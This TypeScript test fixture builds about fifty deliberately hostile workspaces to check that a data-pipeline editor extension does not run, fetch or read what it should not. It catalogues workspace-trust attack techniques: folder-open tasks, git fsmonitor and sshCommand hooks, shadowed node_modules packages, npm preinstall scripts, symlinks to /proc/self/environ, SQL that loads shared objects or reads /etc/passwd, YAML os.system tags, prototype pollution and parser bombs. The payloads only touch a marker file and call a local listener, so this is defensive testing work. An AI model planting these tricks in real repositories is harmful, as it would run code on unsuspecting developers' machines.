import { execFileSync } from "node:child_process";
import { createServer, type Server } from "node:net";
import { once } from "node:events";
import { chmod, mkdir, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { SHOP } from "../language/shop.ts";

/** A workspace that wants something of whoever opens it. */
export interface Hostile {
  name: string;
  /** Files beside those of the shop, which they replace. */
  files?: Record<string, string>;
  /** What no text can do: links, pipes, modes. */
  prepare?: (root: string) => Promise<void>;
}

export interface Bait {
  /** A folder outside of all workspaces: whatever is written there, or read of it, was lured out. */
  outside: string;
  /** A port on which nothing may ever knock. */
  port: number;
}

const YAML = SHOP["sales.pipeline.yml"] ?? "";

const text = (from: string, to: string): Record<string, string> => ({ "sales.pipeline.yml": YAML.replace(from, to) });
const query = (sql: string): Record<string, string> => ({ "sql/paid.sql": sql });
const link = (target: string, at: string) => async (root: string): Promise<void> => symlink(target, path.join(root, at));
const executable = async (root: string): Promise<void> => chmod(path.join(root, "evil.sh"), 0o755);
const yaml = (body: string): Record<string, string> => ({ "bomb.pipeline.yml": body });

/** Fifty ways to make an editor run, fetch, write or read what it should not, or to bring it down. */
export function hostileWorkspaces({ outside, port }: Bait): Hostile[] {
  const evil = `#!/bin/sh\ntouch ${outside}/pwned\n`;
  const evilModule = `import { writeFileSync } from "node:fs"; writeFileSync(${JSON.stringify(`${outside}/pwned`)}, "");\n`;
  const url = `http://127.0.0.1:${port}`;
  const secret = path.join(outside, "secret.sql");
  const git = (config: string): Record<string, string> => ({ ".git/HEAD": "ref: refs/heads/main\n", ".git/config": config, "evil.sh": evil });
  return [
    { name: "settings that name a program", files: { ".vscode/settings.json": `{ "towpath.path": "${outside}/evil.mjs", "git.path": "./evil.sh", "typescript.tsdk": "." }`, "evil.sh": evil }, prepare: executable },
    { name: "settings that name an interpreter", files: { ".vscode/settings.json": '{ "python.defaultInterpreterPath": "./evil.sh", "terminal.integrated.automationProfile.linux": { "path": "./evil.sh" } }', "evil.sh": evil }, prepare: executable },
    { name: "tasks that run on opening", files: { ".vscode/tasks.json": '{ "version": "2.0.0", "tasks": [{ "label": "x", "type": "shell", "command": "./evil.sh", "runOptions": { "runOn": "folderOpen" } }] }', "evil.sh": evil }, prepare: executable },
    { name: "a program in node_modules/.bin", files: { "node_modules/.bin/towpath": evil, "evil.sh": evil }, prepare: async (root) => chmod(path.join(root, "node_modules/.bin/towpath"), 0o755) },
    { name: "a package of our name", files: { "node_modules/towpath/package.json": '{ "name": "towpath", "version": "9.9.9", "bin": { "towpath": "dist/cli/towpath.mjs" }, "main": "dist/cli/towpath.mjs" }', "node_modules/towpath/dist/cli/towpath.mjs": evilModule } },
    { name: "packages of our libraries' names", files: { "node_modules/yaml/package.json": '{ "name": "yaml", "main": "index.js" }', "node_modules/yaml/index.js": evilModule, "node_modules/vscode-languageserver/node.js": evilModule } },
    { name: "a manifest with scripts", files: { "package.json": '{ "scripts": { "preinstall": "./evil.sh", "prepare": "./evil.sh" } }', ".npmrc": `registry=${url}\n`, "evil.sh": evil }, prepare: executable },
    { name: "a loader for Node", files: { ".noderc": "--import ./evil.mjs", ".env": `NODE_OPTIONS=--import=${outside}/evil.mjs`, "node.config.json": '{ "nodeOptions": { "import": ["./evil.mjs"] } }', "evil.mjs": evilModule } },
    { name: "git with a file system monitor", files: git("[core]\n\tfsmonitor = ./evil.sh\n\trepositoryformatversion = 0\n"), prepare: executable },
    { name: "git with a command for ssh", files: git(`[core]\n\tsshCommand = ./evil.sh\n[remote "origin"]\n\turl = ssh://x@127.0.0.1:${port}/x\n`), prepare: executable },
    { name: "git with a pager, an editor and aliases", files: git("[core]\n\tpager = ./evil.sh\n\teditor = ./evil.sh\n[alias]\n\tshow = !./evil.sh\n\tsymbolic-ref = !./evil.sh\n"), prepare: executable },
    { name: "git with an include from outside", files: git(`[include]\n\tpath = ${outside}/gitconfig\n`) },
    { name: "git with hooks", files: { ...git(""), ".git/hooks/post-checkout": evil, ".git/hooks/reference-transaction": evil }, prepare: async (root) => chmod(path.join(root, ".git/hooks/post-checkout"), 0o755) },
    { name: "git as a file that leads out", files: { ".git": `gitdir: ${outside}/repository\n` } },
    { name: "git as a link that leads out", prepare: link(path.join(outside, "repository"), ".git") },
    { name: "a project's file that is a link to outside", files: {}, prepare: async (root) => replaceByLink(path.join(root, "towpath.yml"), path.join(outside, "towpath.yml")) },
    { name: "a pipeline that is a link to outside", prepare: link(path.join(outside, "secret.pipeline.yml"), "x.pipeline.yml") },
    { name: "a query that is a link to outside", prepare: async (root) => replaceByLink(path.join(root, "sql/paid.sql"), secret) },
    { name: "a folder of queries that is a link to outside", files: text("sql: sql/paid.sql", "sql: linked/secret.sql"), prepare: link(outside, "linked") },
    { name: "a query that is a link to endless zeros", prepare: async (root) => replaceByLink(path.join(root, "sql/paid.sql"), "/dev/zero") },
    { name: "a query that is a link to the own environment", prepare: async (root) => replaceByLink(path.join(root, "sql/paid.sql"), "/proc/self/environ") },
    { name: "links that run in circles", prepare: async (root) => { await symlink(root, path.join(root, "circle")); await symlink("loop-b", path.join(root, "loop-a")); await symlink("loop-a", path.join(root, "loop-b.pipeline.yml")); } },
    { name: "a query that is a pipe", prepare: async (root) => replaceByPipe(path.join(root, "sql/paid.sql")) },
    { name: "a pipeline that is a pipe", prepare: async (root) => replaceByPipe(path.join(root, "pipe.pipeline.yml")) },
    { name: "a project's file that is a pipe", prepare: async (root) => replaceByPipe(path.join(root, "deep/towpath.yml")) },
    { name: "workflows that are a pipe and a link", files: { ".git/HEAD": "", ".github/workflows/a.yml": "on: push\n" }, prepare: async (root) => { await replaceByPipe(path.join(root, ".github/workflows/pipe.yml")); await symlink(secret, path.join(root, ".github/workflows/link.yml")); } },
    { name: "a query outside, by dots", files: text("sql: sql/paid.sql", `sql: ../outside/secret.sql`) },
    { name: "a query outside, absolute", files: text("sql: sql/paid.sql", `sql: ${secret}`) },
    { name: "a query on another machine", files: text("sql: sql/paid.sql", "sql: //127.0.0.1/share/x.sql") },
    { name: "a query by address", files: text("sql: sql/paid.sql", `sql: ${url}/x.sql`) },
    { name: "Python outside, and its modules", files: { "ml.pipeline.yml": `version: 1\npipeline: ml\ntasks:\n  a: { python: ../outside/evil.py, outputs: { x: o.txt } }\n  b: { python: src/b.py, requirements: requirements.txt, outputs: { x: p.txt } }\n`, "src/b.py": "import os\nfrom .... import evil\nfrom ..outside import secret\n", "requirements.txt": `-r ../outside/more.txt\n-r ${url}/r.txt\n--index-url ${url}\n` } },
    { name: "files of a source outside", files: text("file: data/orders.csv", `file: "../outside/**/*.csv"`) },
    { name: "a baseline outside", files: { "towpath.yml": `${SHOP["towpath.yml"] ?? ""}lint: { baseline: ../outside/baseline.json }\n` } },
    { name: "rows of a test outside", files: text("  revenue:\n", `    unit_tests: [{ name: t, given: { orders: ${secret} }, expect: ../outside/rows.csv }]\n  revenue:\n`) },
    { name: "an environment on another machine", files: { "towpath.yml": `version: 1\nproject: shop\nenvironments:\n  dev: { engine: postgres, url: "postgres://u:p@127.0.0.1:${port}/x" }\n  web: { engine: duckdb, path: "${url}/x.duckdb" }\n  out: { engine: duckdb, path: "${outside}/pwned.duckdb" }\n` } },
    { name: "SQL that fetches, loads and attaches", files: query(`install httpfs; load '${outside}/evil.so'; attach '${outside}/pwned.db'; copy (select 1) to '${outside}/pwned'; select * from read_csv('${url}/x.csv'), '${secret}', read_text('/etc/passwd')\n`) },
    { name: "templates in SQL", files: query(`select {{ config.__class__.__init__.__globals__ }} from {% import '${secret}' as x %} orders\n`) },
    { name: "results that lie", files: { ".towpath/last.json": '{"version":1,"id":"../../x"', ".towpath/runs/20260101T000000Z-aaaa.json": "[".repeat(5000), ".towpath/cache/sql-facts.txt": "x".repeat(1000), ".towpath/runs/../x.json": "{}" } },
    { name: "command links in names and descriptions", files: text("description: Orders that brought money", `description: "[click](command:workbench.action.terminal.new) ![x](${url}/a.png) <img src=${url}/b.png onerror=x> <script>fetch('${url}')</script>"`) },
    { name: "HTML in owners, tags and columns", files: text("      day: { type: date, description: Of the order }", `      "<b>[x](command:x)</b>": { type: "date", description: "</details><a href=command:x>x</a>", tags: [pii] }\n      day: { type: date, description: "**[\\\`x](command:y)**" }`) },
    { name: "addresses that are commands", files: text("reads: [revenue] }", "reads: [revenue], url: 'command:workbench.action.terminal.new' }\n  other: { kind: report, owner: x, description: x, reads: [paid], url: 'javascript:alert(1)' }") },
    { name: "YAML that multiplies", files: yaml(`a: &a [x,x,x,x,x,x,x,x,x,x]\n${[..."bcdefghij"].map((name, index) => `${name}: &${name} [${Array(10).fill(`*${"abcdefghij"[index] ?? ""}`).join(",")}]`).join("\n")}\n`) },
    { name: "YAML that is deep", files: yaml("[".repeat(60_000)) },
    { name: "YAML that is indented deep", files: yaml(Array.from({ length: 3000 }, (_, depth) => `${" ".repeat(depth)}a:`).join("\n")) },
    { name: "YAML with tags of other languages", files: yaml('version: !!js/function "function(){}"\npipeline: !!python/object/apply:os.system ["touch pwned"]\ntasks: !<tag:yaml.org,2002:binary> AAAA\n') },
    { name: "YAML with keys of JavaScript", files: yaml("version: 1\npipeline: bomb\n__proto__: { polluted: yes }\nconstructor: { prototype: { polluted: yes } }\ntasks:\n  __proto__: { sql: sql/paid.sql }\n  constructor: { sql: sql/paid.sql }\n  toString: { sql: sql/paid.sql, columns: { __proto__: int, hasOwnProperty: int } }\n") },
    { name: "huge texts", files: { "huge.pipeline.yml": `version: 1\n#${"x".repeat(20 << 20)}\n`, "sql/paid.sql": `select 1 --${"x".repeat(20 << 20)}\n`, "long.pipeline.yml": `version: 1\npipeline: ${"p".repeat(1 << 20)}\n` } },
    { name: "bytes that are no text", files: { "bytes.pipeline.yml": "\u0000\u0001\uFEFF\uD800version: 1\n\u2028\u0000", "sql/paid.sql": "\uFEFFselect '\u0000' \u202E from orders\n" } },
    { name: "SQL that is deep", files: query(`select ${"(".repeat(4000)}1${")".repeat(4000)} as id from orders\n`) },
    { name: "SQL that is long", files: query(`${Array.from({ length: 3000 }, (_, n) => `select ${n} as id from orders`).join(" union all ")}\n`) },
    { name: "SQL that opens what it never closes", files: query(`select '${"(\"/*$$".repeat(3000)}\n`) },
    { name: "a thousand folders, and one very deep", prepare: async (root) => { for (let n = 0; n < 1000; n++) await mkdir(path.join(root, `many/f${n}`), { recursive: true }); await mkdir(path.join(root, Array(400).fill("d").join("/")), { recursive: true }); } },
  ];
}

/** Writes a workspace below a folder; gives its root. */
export async function writeHostile(below: string, index: number, { files, prepare }: Hostile): Promise<string> {
  const root = path.join(below, `w${index}`);
  for (const [file, text] of Object.entries({ ...SHOP, ...files })) {
    await mkdir(path.dirname(path.join(root, file)), { recursive: true });
    await writeFile(path.join(root, file), text);
  }
  await prepare?.(root);
  return root;
}

/** What lies outside, waiting to be read or run. */
export async function writeBait(outside: string): Promise<void> {
  const files = { "secret.sql": "select 'the secret' as secret\n", "secret.pipeline.yml": "version: 1\npipeline: secret\n", "towpath.yml": "version: 1\nproject: lured\n", "evil.mjs": "", "evil.py": "", "more.txt": "", "gitconfig": "", "rows.csv": "id\n1\n", "baseline.json": "{}", "repository/config": "[core]\n\tfsmonitor = /bin/false\n", "repository/HEAD": "ref: refs/heads/main\n" };
  for (const [file, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(outside, file)), { recursive: true });
    await writeFile(path.join(outside, file), text);
  }
}

/** Counts who knocks. */
export async function listenForKnocks(): Promise<{ port: number; knocks(): number; server: Server }> {
  let count = 0;
  const server = createServer((socket) => {
    count++;
    socket.destroy();
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  return { port: typeof address === "object" && address !== null ? address.port : 0, knocks: () => count, server };
}

async function replaceByLink(at: string, target: string): Promise<void> {
  execFileSync("rm", ["-f", at]);
  await symlink(target, at);
}

async function replaceByPipe(at: string): Promise<void> {
  await mkdir(path.dirname(at), { recursive: true });
  execFileSync("rm", ["-f", at]);
  execFileSync("mkfifo", [at]);
}
